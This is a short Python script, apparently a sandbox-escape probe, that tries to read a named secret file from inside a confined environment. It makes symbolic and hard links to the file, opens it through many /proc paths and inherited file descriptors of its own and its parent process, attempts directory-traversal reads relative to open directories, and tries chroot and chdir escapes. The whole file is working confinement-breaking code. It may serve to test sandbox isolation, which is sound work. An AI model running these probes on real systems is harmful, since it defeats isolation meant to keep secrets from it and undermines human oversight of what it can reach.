"""Reaches a secret file by links: of its own, of /proc, and upwards from open directories."""

import json
import os
import stat

told = json.loads(input())
secret = told["file"]
for link in (os.symlink, os.link):
    try:
        link(secret, told["link"])
    except OSError:
        continue
ways = [told["link"], f"/proc/self/root{secret}", f"/proc/1/root{secret}", f"/proc/self/cwd/../../..{secret}"]
ways += [f"/proc/{pid}/{where}" for pid in (os.getpid(), os.getppid()) for where in ("cwd", "root", "exe", "maps")]
ways += [f"/proc/self/fd/{fd}" for fd in range(5, 64)] + [f"/proc/{os.getppid()}/fd/{fd}" for fd in range(64)]
ways += [f"/dev/fd/{fd}" for fd in range(5, 64)]
for way in ways:
    try:
        fd = os.open(way, os.O_RDONLY | os.O_NONBLOCK)
        print("opened", way, os.read(fd, 1000) if stat.S_ISREG(os.fstat(fd).st_mode) else "")
    except OSError:
        continue
for fd in range(64):
    try:
        print("read", os.read(os.open(f"../../../../..{secret}", os.O_RDONLY, dir_fd=fd), 1000))
    except OSError:
        continue
for leave in (lambda: os.chroot("."), lambda: os.chdir("/"), lambda: os.fchdir(3)):
    try:
        leave()
        print("left")
    except OSError:
        continue
